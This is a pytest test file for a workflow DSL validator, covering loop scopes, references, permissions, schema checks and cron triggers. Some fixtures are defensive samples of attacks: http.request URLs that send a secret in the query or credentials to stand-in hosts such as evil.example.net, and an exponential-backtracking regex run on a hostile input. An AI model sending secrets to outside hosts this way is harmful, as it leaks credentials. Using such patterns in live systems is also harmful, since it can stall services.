"""Whole-flow validation: scopes, routes, references, `with` schemas, permissions, extension types."""

from __future__ import annotations

import http.server
import threading
import time
from typing import Any

import pytest

from engine.dsl.issue import FlowValidationError
from engine.dsl.validator import check_data, check_flow, load_data, load_flow
from engine.nodetypes.builtin import register_builtins
from engine.nodetypes.registry import NodeType, Registry
from tests.conftest import minimal_flow, to_text


def codes(data: dict[str, Any]) -> list[str]:
    return [i.code for i in check_flow(to_text(data), "t.yaml").errors]


def node(id_: str, type_: str = "log", **fields: Any) -> dict[str, Any]:
    fields.setdefault("with", {"message": "x"} if type_ == "log" else {})
    return {"id": id_, "type": type_, **fields}


def test_minimal_flow_is_valid() -> None:
    flow = load_flow(to_text(minimal_flow()))
    assert flow.id == "hello" and flow.nodes[0].type == "log"


def test_foreach_scopes_item_outer_ancestors_and_the_loop_itself() -> None:
    flow = minimal_flow(
        nodes=[
            node("src", "data.set", **{"with": {"xs": [1, 2]}}),
            {
                "id": "loop",
                "type": "foreach",
                "needs": ["src"],
                "items": "{{ nodes.src.output.xs }}",
                "concurrency": 2,
                "do": [
                    node(
                        "inner",
                        "data.set",
                        **{"with": {"v": "{{ item }}", "i": "{{ index }}", "s": "{{ nodes.src.output }}"}},
                    ),
                    node("after", "log", needs=["inner"], **{"with": {"message": "{{ nodes.inner.output.v }}"}}),
                ],
            },
            node("done", "log", needs=["loop"], **{"with": {"message": "{{ nodes.loop.output | length }}"}}),
        ]
    )
    assert codes(flow) == []


def test_reading_the_enclosing_foreach_from_inside_is_not_allowed() -> None:
    flow = minimal_flow(
        nodes=[
            {
                "id": "loop",
                "type": "foreach",
                "items": [1, 2],
                "do": [node("inner", "log", **{"with": {"message": "{{ nodes.loop.output }}"}})],
            }
        ]
    )
    report = check_flow(to_text(flow))
    (issue,) = report.errors
    assert issue.code == "ref.not_ancestor" and "item" in issue.hint


def test_item_is_only_defined_inside_do_and_nested_items_can_use_the_outer_item() -> None:
    outside = minimal_flow(nodes=[node("a", "log", **{"with": {"message": "{{ item }}"}})])
    assert codes(outside) == ["expr.item_outside_foreach"]
    top_items = minimal_flow(nodes=[{"id": "l", "type": "foreach", "items": "{{ item }}", "do": [node("x")]}])
    assert codes(top_items) == ["expr.item_outside_foreach"]
    nested = minimal_flow(
        nodes=[
            {
                "id": "outer",
                "type": "foreach",
                "items": [[1], [2]],
                "do": [{"id": "inner", "type": "foreach", "items": "{{ item }}", "do": [node("leaf")]}],
            }
        ]
    )
    assert codes(nested) == []


def test_a_node_outside_cannot_read_a_node_inside_a_loop() -> None:
    flow = minimal_flow(
        nodes=[
            {"id": "loop", "type": "foreach", "items": [1], "do": [node("inner")]},
            node("after", "log", needs=["loop"], **{"with": {"message": "{{ nodes.inner.output }}"}}),
        ]
    )
    assert codes(flow) == ["ref.not_ancestor"]


def test_error_route_handler_may_read_the_failed_node_and_must_not_precede_it() -> None:
    ok = minimal_flow(
        nodes=[
            node(
                "risky",
                "http.request",
                on_error="rescue",
                permissions={"net": ["api.example.com"]},
                **{"with": {"url": "https://api.example.com/x"}},
            ),
            node("rescue", "log", **{"with": {"message": "{{ nodes.risky.error }}"}}),
        ]
    )
    assert codes(ok) == []
    cyclic = minimal_flow(nodes=[node("a", on_error="b", needs=["b"]), node("b")])
    assert codes(cyclic) == ["graph.cycle"]


def test_on_failure_nodes_read_main_nodes_and_the_run_error() -> None:
    flow = minimal_flow(
        on_failure=[node("alert", "log", **{"with": {"message": "{{ run.error }} after {{ nodes.greet.status }}"}})]
    )
    assert codes(flow) == []


def test_outputs_read_any_top_level_node_but_not_unknown_ones() -> None:
    assert codes(minimal_flow(outputs={"s": "{{ nodes.greet.status }}"})) == []
    assert codes(minimal_flow(outputs={"s": "{{ nodes.gret.status }}"})) == ["ref.unknown_node"]


def test_with_values_that_are_expressions_are_checked_only_where_their_type_is_known() -> None:
    def llm(max_tokens: Any, model: Any = "default") -> dict[str, Any]:
        return minimal_flow(
            inputs={"type": "object", "properties": {"n": {"type": "integer"}}},
            nodes=[node("s", "llm.complete", **{"with": {"prompt": "hi", "max_tokens": max_tokens, "model": model}})],
        )

    assert codes(llm("{{ inputs.n }}")) == []  # a single expression can be an integer at run time
    assert codes(llm("n={{ inputs.n }}")) == ["node.with_invalid"]  # text is never an integer
    assert codes(llm(0)) == ["node.with_invalid"]
    assert codes(llm(10, model="{{ inputs.n }}")) == []


def test_permissions_allow_wildcards_and_skip_hosts_only_known_at_run_time() -> None:
    def fetch(url: str, net: list[str]) -> dict[str, Any]:
        return minimal_flow(
            inputs={"type": "object", "properties": {"host": {"type": "string"}}},
            nodes=[node("f", "http.request", permissions={"net": net}, **{"with": {"url": url}})],
        )

    assert codes(fetch("https://api.example.com/x", ["*.example.com"])) == []
    assert codes(fetch("https://api.example.com:8443/x", ["api.example.com:8443"])) == []
    assert codes(fetch("https://{{ inputs.host }}/x", [])) == []
    assert codes(fetch("https://evil.com/x", ["*.example.com"])) == ["perm.net_missing"]
    assert codes(fetch("http://127.0.0.1:8765/x", ["127.0.0.1"])) == []


def test_warnings_do_not_fail_validation_but_are_reported() -> None:
    report = check_flow(to_text(minimal_flow(secrets=["unused"])))
    assert report.ok and [w.code for w in report.warnings] == ["secret.unused"]


def test_data_from_a_copilot_gets_paths_even_without_lines() -> None:
    report = check_data(minimal_flow(nodes=[node("a", "http.reqest")]), "draft")
    (issue,) = report.errors
    assert issue.code == "node.unknown_type" and issue.dotted_path == "nodes[0].type" and issue.node_id == "a"
    assert "http.request" in issue.message
    with pytest.raises(FlowValidationError):
        load_data(minimal_flow(nodes=[node("a", "http.reqest")]))


def test_every_error_found_is_reported_not_only_the_first() -> None:
    flow = minimal_flow(nodes=[node("a", "nope"), node("b", needs=["zz"]), node("c", "log", **{"with": {}})])
    assert sorted(codes(flow)) == ["graph.unknown_need", "node.unknown_type", "node.with_missing"]


def test_extension_types_register_and_validate_like_built_ins() -> None:
    # Given a registry with the built-ins plus one extension type
    registry = register_builtins(Registry())
    registry.register(
        NodeType(
            name="crm.upsert",
            family="crm",
            summary="Upsert a contact.",
            with_schema={"type": "object", "properties": {"email": {"type": "string"}}, "required": ["email"]},
            output_schema={"type": "object"},
        )
    )
    flow = to_text(minimal_flow(nodes=[node("c", "crm.upsert", **{"with": {"email": "a@b.c"}})]))
    # Then it validates with that registry and is unknown to the default one
    assert check_flow(flow, registry=registry).ok
    assert [i.code for i in check_flow(flow).errors] == ["node.unknown_type"]
    with pytest.raises(ValueError, match="already registered"):
        registry.register(registry.get("log"))


def test_per_item_expressions_are_checked_with_item_defined() -> None:
    def filt(where: str) -> dict[str, Any]:
        return minimal_flow(
            inputs={"type": "object", "properties": {"min": {"type": "number"}}},
            nodes=[node("f", "data.filter", **{"with": {"items": [1, 2], "where": where}})],
        )

    assert codes(filt("item > inputs.min and index < 10")) == []
    assert sorted(codes(filt("item > inputs.mn and itme"))) == ["expr.unknown_name", "ref.unknown_input"]
    assert codes(filt("item >")) == ["expr.syntax"]


def test_fields_that_do_nothing_on_control_nodes_are_errors() -> None:
    loop = {"id": "l", "type": "foreach", "items": [1], "retry": {"max_attempts": 2}, "do": [node("x")]}
    assert codes(minimal_flow(nodes=[loop])) == ["node.field_not_applicable"]
    gate = {"id": "g", "type": "approval", "permissions": {"net": ["a.com"]}}
    assert codes(minimal_flow(nodes=[gate])) == ["node.field_not_applicable"]
    lonely = check_flow(to_text(minimal_flow(nodes=[{"id": "g", "type": "approval", "on_timeout": "approve"}])))
    assert [w.code for w in lonely.warnings] == ["node.on_timeout_without_timeout"]


def test_webhook_signature_needs_a_secret_and_permission_secrets_must_be_declared() -> None:
    hook = minimal_flow(triggers=[{"type": "webhook", "signature": {"header": "X-Sig"}}])
    assert codes(hook) == ["trigger.signature_without_secret"]
    perms = minimal_flow(nodes=[node("a", permissions={"secrets": ["nope"]})])
    assert codes(perms) == ["ref.undeclared_secret"]
    used = check_flow(to_text(minimal_flow(secrets=["tok"], nodes=[node("a", permissions={"secrets": ["tok"]})])))
    assert used.ok and not used.warnings


def test_llm_cost_forecast_respects_the_max_tokens_cap() -> None:
    # Forecast: (max_tokens + 500 prompt allowance) x 2 C-ION per 1k tokens for the default model
    def flow(permissions: dict[str, Any] | None) -> list[str]:
        llm = node("s", "llm.complete", **{"with": {"prompt": "hi"}})
        if permissions:
            llm["permissions"] = permissions
        report = check_flow(to_text(minimal_flow(budget={"max_cion_per_run": 2}, nodes=[llm])))
        assert report.ok
        return [w.code for w in report.warnings]

    assert flow(None) == ["budget.node_over_budget"]  # default 1,024 tokens: 3.048 C-ION > 2
    assert flow({"max_tokens": 50}) == []  # capped at 50 tokens: 1.1 C-ION


@pytest.mark.parametrize(
    ("snippet", "code", "position", "words"),
    [
        ("triggers: [{cron: '* * * * *'}]", "schema.missing", (4, 12), "missing required field 'type'"),
        ("triggers: [{type: crn}]", "trigger.unknown_type", (4, 19), "did you mean 'cron'"),
        ("budget: {}", "schema.invalid_value", (4, 9), "max_cion_per_run or max_cion_per_month"),
        ("tags: a", "schema.invalid_type", (4, 7), "must be a list"),
        ("nodez: []", "schema.unknown_field", (4, 1), "did you mean 'nodes'"),
    ],
)
def test_structural_errors_point_at_the_field_and_say_what_to_do(
    snippet: str, code: str, position: tuple[int, int], words: str
) -> None:
    text = "fluxgraph: 1\nid: x\nnodes: [{id: a, type: log, with: {message: hi}}]\n" + snippet + "\n"
    (issue,) = check_flow(text, "s.yaml").errors
    assert (issue.code, (issue.location.line, issue.location.column)) == (code, position)
    assert words in issue.message and issue.hint


def test_a_foreach_written_with_with_is_told_where_its_fields_go_and_a_field_never_suggests_itself() -> None:
    text = "fluxgraph: 1\nid: x\nnodes:\n  - id: loop\n    type: foreach\n    items: [1]\n    with: {n: 1}\n"
    text += "    do: [{id: a, type: log, with: {message: hi}}]\n  - {id: b, type: log, with: {message: hi}, do: []}\n"
    loop, step = check_flow(text).errors
    assert loop.message == "a foreach takes no `with`" and "on the foreach node itself" in loop.hint
    assert (loop.location.line, loop.location.column) == (7, 5)
    assert "unknown field 'do'" in step.message and "did you mean 'do'" not in step.message


def test_retry_delay_order_error_points_at_max_delay() -> None:
    text = "fluxgraph: 1\nid: x\nnodes:\n  - id: a\n    type: log\n    with: {message: hi}\n"
    text += "    retry: {initial_delay: 1m, max_delay: 1s}\n"
    (issue,) = check_flow(text).errors
    assert issue.dotted_path == "nodes[0].retry.max_delay" and issue.location.column == 43


def test_cron_input_is_not_checked_against_an_invalid_inputs_schema() -> None:
    flow = minimal_flow(
        inputs={"type": "0object"},
        triggers=[{"type": "cron", "cron": "0 9 * * *", "input": {"days": 1}}],
    )
    assert codes(flow) == ["inputs.invalid_schema"]


def test_validation_never_fetches_remote_schema_refs() -> None:
    # Given a loopback server that counts requests, and an inputs schema whose $ref points at it
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'{"type": "integer"}')

        def log_message(self, *args: Any) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        url = f"http://127.0.0.1:{server.server_port}/n.json"
        flow = minimal_flow(
            inputs={"type": "object", "properties": {"n": {"$ref": url}}},
            triggers=[{"type": "cron", "cron": "0 9 * * *", "input": {"n": 1}}],
        )
        # When it is validated, Then nothing was fetched and the ref is reported
        assert codes(flow) == ["trigger.input_invalid"]
        assert hits == []
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


def test_schema_patterns_run_in_linear_time_and_lookaround_is_refused() -> None:
    # Given an inputs pattern that backtracks exponentially with Python's re, and a hostile fixed input
    hostile = minimal_flow(
        inputs={"type": "object", "properties": {"s": {"type": "string", "pattern": "(a+)+$"}}},
        triggers=[{"type": "cron", "cron": "0 9 * * *", "input": {"s": "a" * 5000 + "!"}}],
    )
    started = time.perf_counter()
    assert codes(hostile) == ["trigger.input_invalid"]  # it does not match, and RE2 says so at once
    assert time.perf_counter() - started < 2
    lookahead = minimal_flow(inputs={"type": "object", "properties": {"s": {"type": "string", "pattern": "(?=a)b"}}})
    (issue,) = check_flow(to_text(lookahead)).errors
    assert issue.code == "inputs.invalid_schema" and "linear time" in issue.message
    assert issue.dotted_path == "inputs.properties.s.pattern"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://evil.example.net?key={{ secrets.k }}", ["perm.net_missing"]),  # expression only in the query
        ("https://u:{{ secrets.k }}@evil.example.net/x", ["perm.net_missing"]),  # ... or in the credentials
        ("//evil.example.net/x", ["node.with_invalid"]),
        ("https:\\\\evil.example.net/x", ["node.with_invalid"]),
        ("https://x.example.com:99999/a", ["node.with_invalid"]),
        ("{{ inputs.url }}", []),  # known only at run time, checked when it resolves
        ("https://{{ inputs.host }}/x", []),
    ],
)
def test_literal_hosts_are_found_wherever_the_expressions_are(url: str, expected: list[str]) -> None:
    flow = minimal_flow(
        secrets=["k"],
        inputs={"type": "object", "properties": {"url": {"type": "string"}, "host": {"type": "string"}}},
        nodes=[node("a", "http.request", **{"with": {"url": url, "headers": {"X": "{{ secrets.k }}"}}})],
    )
    assert codes(flow) == expected


def test_expressions_in_a_literal_items_list_are_checked() -> None:
    loop = {"id": "l", "type": "foreach", "items": ["{{ nodes.zzz.output }}", "{{ item. }}"], "do": [node("x")]}
    assert sorted(codes(minimal_flow(nodes=[loop]))) == ["expr.syntax", "ref.unknown_node"]


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ({"nodes": [node("fail")]}, "node.reserved_id"),
        ({"outputs": {"leak": "{{ secrets.k }}"}, "secrets": ["k"]}, "ref.secret_in_outputs"),
        ({"nodes": [node("a", timeout=0)]}, "schema.invalid_value"),
        ({"triggers": [{"type": "cron", "cron": "0 0 31 2 *"}]}, "trigger.cron_never_fires"),
        ({"triggers": [{"type": "cron", "cron": "0 9 * * *", "timezone": "localtime"}]}, "trigger.timezone_invalid"),
        ({"nodes": [node("a", permissions={"net": ["x.example.com:99999"]})]}, "schema.invalid_value"),
    ],
)
def test_more_mistakes_found_in_review(change: dict[str, Any], code: str) -> None:
    assert code in codes(minimal_flow(**change))


def test_a_node_reading_itself_gets_a_hint_that_says_so() -> None:
    flow = minimal_flow(nodes=[node("a", "log", **{"with": {"message": "{{ nodes.a.output }}"}})])
    (issue,) = check_flow(to_text(flow)).errors
    assert issue.code == "ref.not_ancestor" and "its own output" in issue.hint
